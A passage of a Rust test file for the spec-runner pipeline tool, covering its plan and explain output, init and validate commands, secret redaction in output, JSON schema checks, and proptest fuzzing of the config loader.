    let get = |spec: &str, key: &str| -> (&str, &str) {
        let (v, o) = e
            .get(spec)
            .and_then(|s| s.get(key))
            .unwrap_or_else(|| panic!("no {spec}.{key} in:\n{}", run.stdout));
        (v.as_str(), o.as_str())
    };
    assert_eq!(
        get("x", "retry_max_retries"),
        ("1", "spec-runner.toml: specs.x.retry_max_retries")
    );
    assert_eq!(
        get("y", "retry_max_retries"),
        ("4", "SPEC_RUNNER_RETRY_MAX_RETRIES")
    );
    assert_eq!(
        get("x", "retry_backoff_seconds"),
        ("7.0", "config.json: retry_backoff_seconds")
    );
    assert_eq!(get("y", "retry_jitter"), ("none", "default"));
    // Every policy key is explained for every spec.
    for name in ["x", "y"] {
        for key in POLICY_KEYS {
            let (_, origin) = get(name, key);
            assert!(!origin.is_empty(), "{name}.{key} has no origin");
        }
    }
    run.stdout_has("backoff: 7s");
}

#[test]
fn explain_shows_run_wide_and_global_values_once_and_per_spec_what_differs() {
    let t = Test::with_pipeline(
        "\
jobs = 3
timeout_seconds = \"1h30m\"
[specs.x]
command = \"true\"
retry_max_retries = 1
cwd = \"sub\"
[specs.y]
command = \"true\"
[specs.z]
command = \"true\"
",
    );
    let run = t
        .env("SPEC_RUNNER_SPECS__Z__RETRY_JITTER", "full")
        .args(&["plan", "--explain"])
        .run();
    run.code(0);
    let out = &run.stdout;
    // Run-wide keys and the global effective policy, once each, with their origins.
    let (head, specs) = out.split_once("\n[").expect("spec sections");
    assert!(head.contains("run-wide:\n"), "{out}");
    assert!(
        head.lines().any(|l| l.starts_with("  jobs ")
            && l.contains("= 3 ")
            && l.ends_with("(spec-runner.toml: jobs)")),
        "{out}"
    );
    assert!(
        head.lines().any(|l| l.starts_with("  timeout_seconds ")
            && l.contains("= 5400.0 ")
            && l.ends_with("(spec-runner.toml: timeout_seconds)")),
        "{out}"
    );
    assert!(
        head.lines()
            .any(|l| l.starts_with("  retry_jitter ") && l.ends_with("(default)")),
        "{out}"
    );
    assert_eq!(out.matches("  jobs ").count(), 1, "{out}");
    assert_eq!(out.matches("  timeout_seconds ").count(), 1, "{out}");
    // Per spec, only what differs.
    let e = explained(&format!("[{specs}"));
    let keys = |name: &str| -> Vec<String> {
        e.get(name)
            .map(|m| m.keys().cloned().collect())
            .unwrap_or_default()
    };
    assert_eq!(keys("x"), ["cwd", "retry_max_retries"], "{out}");
    assert_eq!(keys("y"), Vec::<String>::new(), "{out}");
    assert_eq!(keys("z"), ["retry_jitter"], "{out}");
    assert_eq!(
        e["z"]["retry_jitter"],
        (
            "full".to_string(),
            "SPEC_RUNNER_SPECS__Z__RETRY_JITTER".to_string()
        )
    );
    // A 25-spec pipeline stays short: a few lines per spec, not one per key.
    let mut many = String::from("retry_max_retries = 2\n");
    for i in 0..25 {
        many.push_str(&format!("[specs.s{i}]\ncommand = \"true\"\n"));
    }
    let run = Test::with_pipeline(&many)
        .args(&["plan", "--explain"])
        .run();
    run.code(0);
    let lines = run.stdout.lines().count();
    assert!(lines < 130, "{lines} lines:\n{}", run.stdout);
    let all = Test::with_pipeline(&many)
        .args(&["plan", "--explain", "--all"])
        .run();
    assert!(all.stdout.lines().count() > 25 * POLICY_KEYS.len());
}

#[test]
fn plan_names_limit_it_to_those_specs() {
    let t = Test::with_pipeline(
        "[specs.a]\ncommand = \"true\"\n[specs.b]\ncommand = \"true\"\ndepends_on = [\"a\"]\n[specs.c]\ncommand = \"true\"\n",
    );
    let run = Test::with_pipeline(&t.read("spec-runner.toml"))
        .args(&["plan", "b", "c"])
        .run();
    run.code(0)
        .stdout_has("3 specs in 2 waves, ")
        .stdout_has("; showing 2\n")
        .stdout_has("wave 1: c\n")
        .stdout_has("wave 2: b\n")
        .stdout_has("[b] true")
        .stdout_has("[c] true")
        .stdout_lacks("[a]");
    let p = plan_with(Test::with_pipeline(&t.read("spec-runner.toml")), &["b"]);
    assert_eq!(p["order"], json!([["b"]]));
    assert_eq!(p["specs"].as_array().map(Vec::len), Some(1));
    assert_eq!(p["specs"][0]["name"], "b");
    assert_eq!(p["specs"][0]["depends_on"], json!(["a"]));
    Test::with_pipeline(&t.read("spec-runner.toml"))
        .args(&["plan", "bb"])
        .run()
        .code(2)
        .stderr_has("no spec named `bb`")
        .stderr_has("did you mean `b`?");
}

#[test]
fn compound_durations_are_accepted_wherever_durations_are() {
    let t = Test::with_pipeline(
        "retry_backoff_seconds = \"1m30s\"\n[specs.a]\ncommand = \"true\"\ntimeout_seconds = \"1h30m\"\n",
    );
    let p = plan(
        t.env("SPEC_RUNNER_ACTIVITY_TIMEOUT_SECONDS", "2h 15m")
            .args(&["plan", "--format", "json"]),
    );
    let a = &spec(&p, "a")["policy"];
    assert_eq!(a["timeout_seconds"], json!(5400.0));
    assert_eq!(a["retry_backoff_seconds"], json!(90.0));
    assert_eq!(a["activity_timeout_seconds"], json!(8100.0));
    // Half a compound duration is still an error, naming the value.
    Test::with_pipeline("[specs.a]\ncommand = \"true\"\ntimeout_seconds = \"1h30\"\n")
        .args(&["validate"])
        .run()
        .code(2)
        .problem(
            "spec-runner.toml:3:19",
            "specs.a.timeout_seconds",
            &["`1h30` is not a duration", "\"1h30m\""],
        );
}

#[test]
fn secret_env_values_are_redacted_in_plan_and_explain() {
    let pipeline = "\
[specs.a]
command = \"true\"
env = { API_TOKEN = \"tok-111\", DB_PASSWORD = \"pw-222\", aws_secret_access_key = \"sk-333\", SSH_KEY = \"key-444\", GCP_CREDENTIALS = \"cred-555\", RUST_LOG = \"debug-visible\" }
";
    let secrets = ["tok-111", "pw-222", "sk-333", "key-444", "cred-555"];
    let json_run = Test::with_pipeline(pipeline)
        .args(&["plan", "--format", "json"])
        .run();
    json_run.code(0);
    let p = json_run.json();
    let env = &spec(&p, "a")["env"];
    for name in [
        "API_TOKEN",
        "DB_PASSWORD",
        "aws_secret_access_key",
        "SSH_KEY",
        "GCP_CREDENTIALS",
    ] {
        assert_eq!(env[name], "<redacted>", "{name}");
    }
    assert_eq!(env["RUST_LOG"], "debug-visible");

    let text_run = Test::with_pipeline(pipeline)
        .args(&["plan", "--explain"])
        .run();
    text_run.code(0).stdout_has("env.API_TOKEN = <redacted>");
    text_run.stdout_has("env.RUST_LOG = debug-visible");
    for run in [&json_run, &text_run] {
        for s in secrets {
            run.stdout_lacks(s);
            run.stderr_lacks(s);
        }
    }
}

#[test]
fn the_text_plan_shows_the_first_line_of_a_long_command() {
    let t = Test::with_pipeline(
        "[specs.multi]\ncommand = '''\necho one\necho two\n'''\n[specs.single]\ncommand = \"echo single\"\n",
    );
    let run = t.args(&["plan"]).run();
    run.code(0)
        .stdout_has("[multi] echo one …\n")
        .stdout_has("[single] echo single\n")
        .stdout_lacks("echo two");
}

#[test]
fn plan_text_shows_waves_and_schedules() {
    let t = Test::with_pipeline(
        "[specs.a]\ncommand = \"true\"\n[specs.b]\ncommand = \"true\"\ndepends_on = [\"a\"]\nretry_max_retries = 0\n",
    );
    let run = t.args(&["plan"]).run();
    run.code(0)
        .stdout_has("2 specs in 2 waves")
        .stdout_has("wave 1: a\n")
        .stdout_has("wave 2: b\n")
        .stdout_has("backoff: 5s, 10s, 20s\n")
        .stdout_has("backoff: no retries\n")
        .stdout_has("depends on: a\n");
}

// ---------------------------------------------------------------------------------
// init and validate.
// ---------------------------------------------------------------------------------

#[test]
fn init_writes_a_pipeline_that_validates_and_keeps_an_existing_one() {
    let t = Test::new().args(&["init"]);
    t.run().code(0);
    let written = t.read("spec-runner.toml");
    assert!(written.starts_with("#:schema ./schema/spec-runner.schema.json\n"));
    Test::with_pipeline(&written)
        .args(&["validate"])
        .run()
        .code(0)
        .stdout_has("2 specs, valid");

    // A second init refuses and leaves the file alone.
    let t = Test::with_pipeline("# mine\n").args(&["init"]);
    t.run()
        .code(2)
        .stderr_has("already exists")
        .stderr_has("--force");
    assert_eq!(t.read("spec-runner.toml"), "# mine\n");

    // --force overwrites.
    let t = Test::with_pipeline("# mine\n").args(&["init", "--force"]);
    t.run().code(0);
    assert_eq!(t.read("spec-runner.toml"), written);

    // -f names where it goes.
    let t = Test::new().args(&["init", "-f", "pipelines/nightly.toml"]);
    t.run().code(0);
    assert_eq!(t.read("pipelines/nightly.toml"), written);
}

#[test]
fn init_overwrites_no_file_without_force_schemas_included() {
    // A schema of one's own (or an older one) next to no pipeline file: refused, named,
    // and nothing is written, the pipeline file included.
    let t = Test::new().args(&["init"]);
    t.write("schema/config.schema.json", "{\"mine\": true}\n");
    t.run()
        .code(2)
        .stderr_has("`schema/config.schema.json` already exists")
        .stderr_has("nothing was written")
        .stderr_has("--force");
    assert_eq!(t.read("schema/config.schema.json"), "{\"mine\": true}\n");
    assert!(!t.path().join("spec-runner.toml").exists());
    assert!(!t.path().join("schema/spec-runner.schema.json").exists());

    // Every file in the way is named at once.
    let t = Test::with_pipeline("# mine\n").args(&["init"]);
    t.write("schema/spec-runner.schema.json", "{}\n");
    t.run()
        .code(2)
        .stderr_has("`spec-runner.toml`, `schema/spec-runner.schema.json` already exist");
    assert_eq!(t.read("schema/spec-runner.schema.json"), "{}\n");

    // --force overwrites them all.
    let t = t.args(&["init", "--force"]);
    t.run().code(0);
    assert_ne!(t.read("schema/spec-runner.schema.json"), "{}\n");
    assert!(t.read("spec-runner.toml").starts_with("#:schema"));

    // A schema that is already current is not in the way.
    let t = Test::new().args(&["init"]);
    t.run().code(0);
    std::fs::remove_file(t.path().join("spec-runner.toml")).expect("rm");
    t.run().code(0).stderr_lacks("schema.json");
}

#[test]
fn an_unknown_global_variable_is_a_warning_and_a_per_spec_one_an_error() {
    // An install pin in CI, a typo, a name with `__`: warned about, never fatal.
    let run = Test::with_pipeline(ONE_SPEC)
        .envs(&[
            ("SPEC_RUNNER_VERSION", "0.1.0"),
            ("SPEC_RUNNER_RETRY_MAX_RETRYS", "3"),
            ("SPEC_RUNNER_A__B", "1"),
        ])
        .args(&["validate"])
        .run();
    run.code(0)
        .stdout_has("1 spec, valid")
        .stderr_has("warning: ignoring variable SPEC_RUNNER_VERSION: spec-runner has no such setting")
        .stderr_has(
            "warning: ignoring variable SPEC_RUNNER_RETRY_MAX_RETRYS: spec-runner has no such setting (expected SPEC_RUNNER_<KEY> or SPEC_RUNNER_SPECS__<SPEC>__<KEY>); did you mean SPEC_RUNNER_RETRY_MAX_RETRIES?",
        )
        .stderr_has("warning: ignoring variable SPEC_RUNNER_A__B");
    // It does not stop a run either.
    Test::with_pipeline(ONE_SPEC)
        .env("SPEC_RUNNER_VERSION", "0.1.0")
        .args(&["apply", "--progress", "plain"])
        .run()
        .code(0)
        .stderr_has("warning: ignoring variable SPEC_RUNNER_VERSION");

    // A per-spec variable is unmistakably meant for spec-runner: its problems stay errors.
    Test::with_pipeline(ONE_SPEC)
        .envs(&[
            ("SPEC_RUNNER_SPECS__A__TIMEOUT", "3"),
            ("SPEC_RUNNER_SPECS__A", "3"),
        ])
        .args(&["validate"])
        .run()
        .code(2)
        .problem(
            "variable SPEC_RUNNER_SPECS__A__TIMEOUT",
            "specs.a.timeout",
            &["unknown key", "did you mean `timeout_seconds`?"],
        )
        .problem(
            "variable SPEC_RUNNER_SPECS__A",
            "",
            &["SPEC_RUNNER_SPECS__<SPEC>__<KEY>"],
        );
}

#[test]
fn validate_reports_every_dependency_cycle() {
    // Two separate knots and a spec that depends on itself, plus a spec that only
    // waits behind a cycle (it is not on one, so it is not named).
    let run = Test::with_pipeline(
        "\
[specs.a]
command = \"true\"
depends_on = [\"b\"]
[specs.b]
command = \"true\"
depends_on = [\"c\"]
[specs.c]
command = \"true\"
depends_on = [\"a\"]
[specs.self]
command = \"true\"
depends_on = [\"ok\", \"self\"]
[specs.ok]
command = \"true\"
[specs.x]
command = \"true\"
depends_on = [\"y\"]
[specs.y]
command = \"true\"
depends_on = [\"x\"]
[specs.waits]
command = \"true\"
depends_on = [\"x\"]
",
    )
    .args(&["validate"])
    .run();
    run.code(2)
        .problem(
            "spec-runner.toml:3:15",
            "specs.a.depends_on[0]",
            &["dependency cycle: a → b → c → a"],
        )
        .problem(
            "spec-runner.toml:12:21",
            "specs.self.depends_on[1]",
            &["dependency cycle: self → self"],
        )
        .problem(
            "spec-runner.toml:17:15",
            "specs.x.depends_on[0]",
            &["dependency cycle: x → y → x"],
        );
    assert_eq!(run.problems().len(), 3, "{}", run.stderr);
    run.stderr_lacks("waits →");
}

#[test]
fn validate_reports_success_on_stdout() {
    Test::with_pipeline(ONE_SPEC)
        .args(&["validate"])
        .run()
        .code(0)
        .stdout_has("1 spec, valid");
}

#[test]
fn example_pipeline_validates() {
    Test::new()
        .args(&[
            "-f",
            &repo().join("spec-runner.toml").display().to_string(),
            "validate",
        ])
        .run()
        .code(0);
}

// ---------------------------------------------------------------------------------
// The JSON schemas: generated from the loader's types, committed, and strict.
// ---------------------------------------------------------------------------------

fn committed_schema(name: &str) -> Value {
    let text = std::fs::read_to_string(repo().join("schema").join(name))
        .unwrap_or_else(|e| panic!("schema/{name}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("schema/{name}: {e}"))
}

fn validator(name: &str) -> jsonschema::Validator {
    jsonschema::validator_for(&committed_schema(name))
        .unwrap_or_else(|e| panic!("schema/{name} is not a valid schema: {e}"))
}

/// The schema's complaints about `instance`, one line each.
fn schema_errors(v: &jsonschema::Validator, instance: &Value) -> Vec<String> {
    v.iter_errors(instance)
        .map(|e| format!("{}: {e}", e.instance_path))
        .collect()
}

fn toml_json(text: &str) -> Value {
    toml::from_str(text).unwrap_or_else(|e| panic!("not TOML ({e}):\n{text}"))
}

#[test]
fn committed_schemas_are_what_the_types_generate() {
    // In-process: byte for byte.
    for (name, text) in spec_runner::config::schema::rendered() {
        let committed = std::fs::read_to_string(repo().join("schema").join(name))
            .unwrap_or_else(|e| panic!("schema/{name}: {e}"));
        assert!(
            committed == text,
            "schema/{name} is stale: run `cargo run -- schema` and commit the result"
        );
    }
    // Through the binary.
    let dir = repo().join("schema").display().to_string();
    Test::new()
        .args(&["schema", "--check", "--dir", &dir])
        .run()
        .code(0)
        .stderr_has("up to date");
}

#[test]
fn schema_check_fails_on_a_stale_file_and_schema_writes_fresh_ones() {
    let t = Test::new().args(&["schema", "--check", "--dir", "s"]);
    // Missing files are stale.
    t.run().code(1).stderr_has("s/spec-runner.schema.json");
    // `schema` writes them, equal to the committed ones.
    let write = Test::new().args(&["schema", "--dir", "s"]);
    write.run().code(0);
    for name in ["spec-runner.schema.json", "config.schema.json"] {
        let committed =
            std::fs::read_to_string(repo().join("schema").join(name)).expect("committed");
        assert_eq!(write.read(&format!("s/{name}")), committed, "{name}");
    }
    // One changed byte makes --check fail and name that file only.
    let t = Test::new().args(&["schema", "--check", "--dir", "s"]);
    for name in ["spec-runner.schema.json", "config.schema.json"] {
        t.write(
            &format!("s/{name}"),
            &std::fs::read_to_string(repo().join("schema").join(name)).expect("committed"),
        );
    }
    t.run().code(0);
    let config = t.read("s/config.schema.json");
    t.write(
        "s/config.schema.json",
        &config.replacen("Default", "Defualt", 1),
    );
    t.run()
        .code(1)
        .stderr_has("s/config.schema.json")
        .stderr_lacks("spec-runner.schema.json");
}

#[test]
fn example_files_satisfy_the_schemas() {
    let example = std::fs::read_to_string(repo().join("spec-runner.toml")).expect("example");
    assert!(
        example.starts_with("#:schema ./schema/spec-runner.schema.json\n"),
        "spec-runner.toml must point editors at its schema"
    );
    let pipeline = validator("spec-runner.schema.json");
    let errors = schema_errors(&pipeline, &toml_json(&example));
    assert!(errors.is_empty(), "spec-runner.toml: {errors:#?}");

    let starter = Test::new().args(&["init"]);
    starter.run().code(0);
    let errors = schema_errors(&pipeline, &toml_json(&starter.read("spec-runner.toml")));
    assert!(errors.is_empty(), "init's pipeline: {errors:#?}");

    let config = validator("config.schema.json");
    for file in ["config.json", "tests/fixtures/original-config.json"] {
        let text = std::fs::read_to_string(repo().join(file)).expect(file);
        let value: Value = serde_json::from_str(&text).expect(file);
        let errors = schema_errors(&config, &value);
        assert!(errors.is_empty(), "{file}: {errors:#?}");
    }
}

#[test]
fn the_schemas_reject_what_the_loader_rejects() {
    let pipeline = validator("spec-runner.schema.json");
    let base = "[specs.a]\ncommand = \"true\"\n";
    assert!(pipeline.is_valid(&toml_json(base)));
    for (what, text) in [
        ("unknown root key", format!("retyr_max_retries = 1\n{base}")),
        ("unknown spec key", format!("{base}comand = \"x\"\n")),
        (
            "unknown key in a rule",
            format!("[[retry_rules]]\naction = \"retry\"\nexit_code = [1]\n{base}"),
        ),
        (
            "unknown key in a spec's rule",
            format!("{base}[[specs.a.retry_rules]]\naction = \"retry\"\nouptut = \"x\"\n"),
        ),
        (
            "a key of the original tool in the pipeline file",
            format!("repos_root = \"~\"\n{base}"),
        ),
        ("run-wide key in a spec", format!("{base}jobs = 2\n")),
        ("missing command", "[specs.a]\ncwd = \".\"\n".to_string()),
        ("empty command", "[specs.a]\ncommand = []\n".to_string()),
        (
            "spec name with ..",
            "[specs.\"a..b\"]\ncommand = \"x\"\n".to_string(),
        ),
        (
            "spec name with /",
            "[specs.\"a/b\"]\ncommand = \"x\"\n".to_string(),
        ),
        (
            "hidden spec name",
            "[specs.\".a\"]\ncommand = \"x\"\n".to_string(),
        ),
        (
            "multiplier below 1",
            format!("retry_backoff_multiplier = 0.5\n{base}"),
        ),
        ("zero jobs", format!("jobs = 0\n{base}")),
        (
            "negative retries",
            format!("retry_max_retries = -1\n{base}"),
        ),
        ("negative duration", format!("timeout_seconds = -1\n{base}")),
        (
            "duration over the limit",
            format!("timeout_seconds = 1e10\n{base}"),
        ),
        (
            "bad duration unit",
            format!("timeout_seconds = \"5 parsecs\"\n{base}"),
        ),
        (
            "empty exit_codes",
            format!("[[retry_rules]]\naction = \"fail\"\nexit_codes = []\n{base}"),
        ),
        (
            "unknown action",
            format!("[[retry_rules]]\naction = \"explode\"\n{base}"),
        ),
        (
            "missing action",
            format!("[[retry_rules]]\nexit_codes = [1]\n{base}"),
        ),
        (
            "unknown jitter",
            format!("retry_jitter = \"random\"\n{base}"),
        ),
    ] {
        assert!(
            !pipeline.is_valid(&toml_json(&text)),
            "{what} passed the schema:\n{text}"
        );
        // And the loader agrees.
        Test::with_pipeline(&text).args(&["validate"]).run().code(2);
    }
    for ok in [
        "[specs.\"v1.2_x-y\"]\ncommand = \"x\"\n",
        "timeout_seconds = \".5s\"\nretry_backoff_seconds = \" 2 min \"\n[specs.a]\ncommand = [\"x\"]\n",
    ] {
        let errors = schema_errors(&pipeline, &toml_json(ok));
        assert!(errors.is_empty(), "{ok}: {errors:#?}");
        Test::with_pipeline(ok).args(&["validate"]).run().code(0);
    }

    let config = validator("config.schema.json");
    assert!(config.is_valid(&json!({"repos_root": "~", "retry_max_retries": 1})));
    for (what, value) in [
        ("unknown key", json!({"retry_backof_seconds": 1})),
        ("specs", json!({"specs": {"a": {"command": "x"}}})),
        ("wrong type", json!({"retry_on_crash": "yes"})),
        (
            "unknown rule key",
            json!({"retry_rules": [{"action": "fail", "exit_code": [1]}]}),
        ),
    ] {
        assert!(
            !config.is_valid(&value),
            "config.json with {what} passed: {value}"
        );
    }
}

// ---------------------------------------------------------------------------------
// Property tests, in-process: arbitrary and mutated files and variables never make
// the loader panic, and every problem names a file or a variable.
// ---------------------------------------------------------------------------------

mod props {
    use std::collections::BTreeMap;
    use std::path::Path;

    use proptest::prelude::*;
    use proptest::test_runner::Config;
    use spec_runner::config::diag::Source;
    use spec_runner::config::{LoadOptions, Pipeline, Problems};

    /// Keys worth trying: real ones, near misses, the original tool's, nonsense.
    const KEYS: &[&str] = &[
        "retry_max_retries",
        "retry_backoff_seconds",
        "retry_backoff_multiplier",
        "retry_max_backoff_seconds",
        "retry_jitter",
        "retry_on_crash",
        "retry_max_total_seconds",
        "retry_budget",
        "retry_log_dir",
        "retry_rules",
        "timeout_seconds",
        "activity_timeout_seconds",
        "terminate_grace_seconds",
        "jobs",
        "fail_fast",
        "state_dir",
        "on_exhausted",
        "junit_path",
        "command",
        "cwd",
        "env",
        "depends_on",
        "specs",
        "exit_codes",
        "signals",
        "timeout",
        "output",
        "action",
        "backoff_seconds",
        "repos_root",
        "max_retries",
        "retry_max_retrys",
        "comand",
        "",
        "x",
    ];

    /// Spec names: valid, invalid, and ones that collide in variable names.
    const NAMES: &[&str] = &[
        "a", "b", "build", "Build", "a-b", "a.b", "a_b", "v1.2", "x", "../x", "a/b", "a..b", ".h",
        "", "é", "A",
    ];

    /// Values worth trying as text (for variables) and as strings (in files).
    const TEXTS: &[&str] = &[
        "0",
        "1",
        "-1",
        "7",
        "4294967296",
        "0.5",
        "1e400",
        "nan",
        "inf",
        "true",
        "false",
        "90s",
        "5m",
        "250ms",
        "1.5h",
        "-5s",
        "20000d",
        "soon",
        "",
        " ",
        "none",
        "full",
        "retry",
        "fail",
        "abort",
        "activity",
        "SIGSEGV",
        "SIGFOO",
        "(unclosed",
        "(?i)rate limit",
        "echo hi",
        "[1, 2]",
        "[\"a\", \"b\"]",
        "{a = 1}",
        "\"quoted\"",
        "'c'",
        "[",
        "}",
        "é",
        "\u{0}",
        "a\nb",
    ];

    fn leaf() -> impl Strategy<Value = toml::Value> {
        prop_oneof![
            any::<i64>().prop_map(toml::Value::Integer),
            (-5i64..400).prop_map(toml::Value::Integer),
            any::<f64>().prop_map(toml::Value::Float),
            (0.0f64..10.0).prop_map(toml::Value::Float),
            any::<bool>().prop_map(toml::Value::Boolean),
            proptest::sample::select(TEXTS).prop_map(|s| toml::Value::String(s.into())),
            proptest::sample::select(NAMES).prop_map(|s| toml::Value::String(s.into())),
            "[ -~]{0,12}".prop_map(toml::Value::String),
        ]
    }

    fn key() -> impl Strategy<Value = String> {
        prop_oneof![
            4 => proptest::sample::select(KEYS).prop_map(str::to_string),
            1 => proptest::sample::select(NAMES).prop_map(str::to_string),
            1 => "[a-z_]{1,10}",
        ]
    }

    /// Any value: leaves, arrays and tables of them, a few levels deep.
    fn value() -> impl Strategy<Value = toml::Value> {
        leaf().prop_recursive(3, 24, 4, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 0..4).prop_map(toml::Value::Array),
                proptest::collection::btree_map(key(), inner, 0..4)
                    .prop_map(|m| toml::Value::Table(m.into_iter().collect())),
            ]
        })
    }

    /// A spec table: mostly sensible keys, some nonsense.
    fn spec_table() -> impl Strategy<Value = toml::Value> {
        (
            prop_oneof![
                Just(None),
                Just(Some(toml::Value::String("true".into()))),
                leaf().prop_map(Some),
                proptest::collection::vec(leaf(), 0..3).prop_map(|v| Some(toml::Value::Array(v))),
            ],
            proptest::collection::vec(proptest::sample::select(NAMES), 0..3),
            proptest::collection::btree_map(key(), value(), 0..4),
        )
            .prop_map(|(command, deps, rest)| {
                let mut t = toml::Table::new();
                if let Some(c) = command {
                    t.insert("command".into(), c);
                }
                if !deps.is_empty() {
                    t.insert(
                        "depends_on".into(),
                        toml::Value::Array(
                            deps.into_iter()
                                .map(|d| toml::Value::String(d.into()))
                                .collect(),
                        ),
                    );
                }
                t.extend(rest);
                toml::Value::Table(t)
            })
    }

    /// A pipeline document: root keys and a `specs` table.
    fn pipeline() -> impl Strategy<Value = toml::Table> {
        (
            proptest::collection::btree_map(key(), value(), 0..5),
            proptest::collection::btree_map(
                proptest::sample::select(NAMES).prop_map(str::to_string),
                spec_table(),
                0..5,
            ),
        )
            .prop_map(|(root, specs)| {
                let mut t: toml::Table = root.into_iter().collect();
                t.insert(
                    "specs".into(),
                    toml::Value::Table(specs.into_iter().collect()),
                );
                t
            })
    }

    /// Edits to a text: at a relative position, delete a few bytes or insert one of
    /// the characters that matter to TOML and JSON.
    #[derive(Clone, Debug)]
    enum Edit {
        Delete(f64, usize),
        Insert(f64, &'static str),
        DuplicateLine(f64),
    }

    fn edits() -> impl Strategy<Value = Vec<Edit>> {
        let edit = prop_oneof![
            (0.0f64..1.0, 1usize..4).prop_map(|(at, n)| Edit::Delete(at, n)),
            (
                0.0f64..1.0,
                proptest::sample::select(
                    &[
                        "[", "]", "{", "}", "\"", "'", "=", ",", ".", "\n", "#", "a", "0", "-",
                        "é", "\\", "[[", "\"\"\"", "\u{0}", " ",
                    ][..]
                )
            )
                .prop_map(|(at, s)| Edit::Insert(at, s)),
            (0.0f64..1.0).prop_map(Edit::DuplicateLine),
        ];
        proptest::collection::vec(edit, 0..4)
    }

    fn floor_boundary(text: &str, at: f64) -> usize {
        let mut i = ((text.len() as f64) * at) as usize;
        while i > 0 && !text.is_char_boundary(i) {
            i -= 1;
        }
        i.min(text.len())
    }

    fn mutate(mut text: String, edits: &[Edit]) -> String {
        for e in edits {
            match *e {
                Edit::Delete(at, n) => {
                    let start = floor_boundary(&text, at);
                    let mut end = (start + n).min(text.len());
                    while !text.is_char_boundary(end) {
                        end += 1;
                    }
                    text.replace_range(start..end, "");
                }
                Edit::Insert(at, s) => {
                    let i = floor_boundary(&text, at);
                    text.insert_str(i, s);
                }
                Edit::DuplicateLine(at) => {
                    let lines: Vec<&str> = text.lines().collect();
                    if !lines.is_empty() {
                        let i = ((lines.len() as f64) * at) as usize % lines.len();
                        let mut out: Vec<&str> = lines.clone();
                        out.insert(i, lines[i]);
                        text = out.join("\n");
                    }
                }
            }
        }
        text
    }

    fn var_name() -> impl Strategy<Value = String> {
        let key = proptest::sample::select(KEYS).prop_map(str::to_ascii_uppercase);
        let spec = proptest::sample::select(NAMES).prop_map(|n| {
            n.chars()
                .map(|c| match c {
                    '-' | '.' => '_',
                    c => c.to_ascii_uppercase(),
                })
                .collect::<String>()
        });
        prop_oneof![
            4 => key.clone().prop_map(|k| format!("SPEC_RUNNER_{k}")),
            4 => (spec, key).prop_map(|(s, k)| format!("SPEC_RUNNER_SPECS__{s}__{k}")),
            1 => proptest::sample::select(&[
                "SPEC_RUNNER_SPEC", "SPEC_RUNNER_ATTEMPT", "SPEC_RUNNER_RUN_ID",
                "SPEC_RUNNER_", "SPEC_RUNNER_SPECS__", "SPEC_RUNNER_SPECS____X",
                "SPEC_RUNNER_A__B__C__D", "PATH", "HOME",
            ][..]).prop_map(str::to_string),
            1 => "SPEC_RUNNER_[A-Za-z_]{0,12}",
        ]
    }

    fn env() -> impl Strategy<Value = Vec<(String, String)>> {
        proptest::collection::vec(
            (
                var_name(),
                prop_oneof![
                    3 => proptest::sample::select(TEXTS).prop_map(str::to_string),
                    1 => "[ -~]{0,10}",
                ],
            ),
            0..5,
        )
    }

    fn json_text() -> impl Strategy<Value = Option<String>> {
        let json = proptest::collection::btree_map(key(), value(), 0..5).prop_map(|m| {
            // TOML values as JSON: the same trees, written by serde_json.
            serde_json::to_string_pretty(&m).unwrap_or_default()
        });
        prop_oneof![1 => Just(None), 3 => json.prop_map(Some)]
    }

    /// Writes the files, loads, and checks what came back. Returns the pipeline when
    /// it loaded.
    fn check_load(
        dir: &Path,
        pipeline: &str,
        config: Option<&str>,
        env: &[(String, String)],
    ) -> Result<Option<Pipeline>, TestCaseError> {
        std::fs::write(dir.join("spec-runner.toml"), pipeline).expect("write");
        let config_path = dir.join("config.json");
        match config {
            Some(c) => std::fs::write(&config_path, c).expect("write"),
            None => {
                let _ = std::fs::remove_file(&config_path);
            }
        }
        let result = spec_runner::config::load(&LoadOptions {
            env: env.to_vec(),
            cwd: dir.to_path_buf(),
            ..Default::default()
        });
        match result {
            Ok(p) => {
                check_pipeline(&p)?;
                Ok(Some(p))
            }
            Err(Problems(problems)) => {
                prop_assert!(!problems.is_empty(), "Err without a problem");
                for p in &problems {
                    let named = match &p.source {
                        Source::File { path, .. } => {
                            path == "spec-runner.toml"
                                || (path == "config.json" && config.is_some())
                        }
                        Source::Variable(v) => env.iter().any(|(k, _)| k == v),
                        Source::Flag(_) => false,
                    };
                    prop_assert!(named, "problem names no file or variable of ours: {p}");
                    prop_assert!(!p.message.trim().is_empty(), "empty message: {p:?}");
                    prop_assert!(p.to_string().starts_with(&p.source.to_string()));
                }
                Ok(None)
            }
        }
    }

    /// What holds for every pipeline that loads.
    fn check_pipeline(p: &Pipeline) -> Result<(), TestCaseError> {
        let mut wave_of = vec![usize::MAX; p.specs.len()];
        for (w, wave) in p.waves.iter().enumerate() {
            for &i in wave {
                prop_assert_eq!(wave_of[i], usize::MAX, "spec in two waves");
                wave_of[i] = w;
            }
        }
        for (i, s) in p.specs.iter().enumerate() {
            prop_assert!(spec_runner::config::validate::valid_spec_name(&s.name));
            prop_assert!(wave_of[i] != usize::MAX, "{} in no wave", s.name);
            for &d in &s.depends_on {
                prop_assert!(wave_of[d] < wave_of[i], "{} before its dependency", s.name);
            }
            prop_assert!(!s.command.argv().is_empty());
            prop_assert!(s.policy.retry.multiplier >= 1.0);
            prop_assert!(p.run.jobs >= 1);
            for (_, origin) in s.origins.iter() {
                prop_assert!(
                    origin == "default"
                        || origin.starts_with("spec-runner.toml: ")
                        || origin.starts_with("config.json: ")
                        || origin.starts_with("SPEC_RUNNER_")
                        || origin.starts_with("--"),
                    "origin {origin:?}"
                );
            }
        }
        // Rendering never panics either.
        let json = spec_runner::plan::plan_value(p);
        prop_assert_eq!(json["specs"].as_array().map(Vec::len), Some(p.specs.len()));
        for explain in [
            spec_runner::plan::Explain::Diff,
            spec_runner::plan::Explain::All,
        ] {
            let _ = spec_runner::plan::plan_text(
                p,
                &spec_runner::plan::View {
                    explain,
                    only: None,
                    why: None,
                },
            );
        }
        Ok(())
    }

    /// `cases` per property, modest so the suite stays quick; PROPTEST_CASES asks for
    /// a deeper search.
    fn config(cases: u32) -> Config {
        let cases = std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|c| c.parse().ok())
            .unwrap_or(cases);
        Config {
            cases,
            // Shrunk failures are printed; no regression files beside the tests.
            failure_persistence: None,
            ..Config::default()
        }
    }

    proptest! {
        #![proptest_config(config(256))]

